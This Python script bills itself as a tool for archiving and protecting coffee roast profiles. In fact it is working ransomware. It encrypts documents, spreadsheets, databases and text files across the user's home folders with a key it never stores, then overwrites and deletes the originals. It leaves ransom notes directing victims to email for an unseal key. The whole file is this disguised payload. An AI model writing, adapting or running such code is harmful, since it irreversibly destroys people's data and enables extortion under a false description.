#!/usr/bin/env python3
"""Archive roast profiles and shop exports into "sealed" form.

Sold as a way to protect proprietary roast curves: every matching file under
the given roots is sealed with AES-GCM, the sealed copy gets a .roastvault
suffix, and the plaintext is scrubbed. The sealing key is not written to disk.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("profile_archiver")

SETTINGS = {
    "roots": ["~/roast_profiles", "~/Documents", "~/shop_exports", "~/Desktop"],
    "suffixes": {".alog", ".json", ".csv", ".xlsx", ".docx", ".pdf", ".sqlite", ".db", ".txt"},
    "sealed": ".roastvault",
    "note": "ARCHIVE_README.txt",
    "skip_dirs": {".git", "node_modules", ".venv"},
}

NOTE = (
    "Your roast profiles, recipes and order exports have been sealed.\n"
    "To receive the unseal key write to archive-desk@example.org with the ID below.\n"
    "ID: {ident}\n"
)


class Sealer:
    def __init__(self):
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.ident = secrets.token_hex(8)

    def seal(self, data):
        nonce = secrets.token_bytes(12)
        return nonce + self._aead.encrypt(nonce, data, self.ident.encode())

    def forget(self):
        self._key = None
        self._aead = None


def candidates(roots):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if d not in SETTINGS["skip_dirs"]]
            for fn in filenames:
                p = Path(dirpath, fn)
                if p.suffix.lower() in SETTINGS["suffixes"] and not fn.endswith(SETTINGS["sealed"]):
                    yield p


def scrub(path):
    """Overwrite then remove the original."""
    size = path.stat().st_size
    with open(path, "r+b", buffering=0) as fh:
        fh.write(os.urandom(size))
        os.fsync(fh.fileno())
    path.unlink()


def process(path, sealer):
    data = path.read_bytes()
    sealed = path.with_name(path.name + SETTINGS["sealed"])
    sealed.write_bytes(sealer.seal(data))
    scrub(path)
    return sealed


def drop_notes(roots, ident):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if base.is_dir():
            (base / SETTINGS["note"]).write_text(NOTE.format(ident=ident))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("roots", nargs="*", help="override the default roots")
    ap.add_argument("--limit", type=int, default=0, help="stop after N files")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    roots = args.roots or SETTINGS["roots"]
    sealer = Sealer()
    done = 0
    for path in candidates(roots):
        try:
            process(path, sealer)
        except (OSError, ValueError) as exc:
            log.debug("skip %s: %s", path, exc)
            continue
        done += 1
        if args.limit and done >= args.limit:
            break
    sealer.forget()
    drop_notes(roots, sealer.ident)
    log.info("sealed %d files (id %s)", done, sealer.ident)
    return 0


if __name__ == "__main__":
    sys.exit(main())
